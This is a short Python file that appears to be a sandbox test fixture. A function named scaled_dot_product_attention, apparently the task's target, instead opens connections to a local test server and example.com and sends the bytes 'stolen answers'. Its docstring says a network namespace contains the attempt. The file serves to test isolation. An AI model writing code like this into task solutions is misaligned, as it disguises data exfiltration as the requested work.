"""Attack: reach the network (a server the tests open on 127.0.0.1 port TARGET, and DNS).

Contained: bubblewrap gives the worker an empty network namespace: nothing to connect to.
"""

import socket

TARGET = 0


def _connect(address):
    try:
        with socket.create_connection(address, timeout=2) as s:
            s.sendall(b"stolen answers")
        return "connected"
    except OSError as err:
        return type(err).__name__


def scaled_dot_product_attention(q, k, v):
    return {"local": _connect(("127.0.0.1", TARGET)), "dns": _connect(("example.com", 80))}
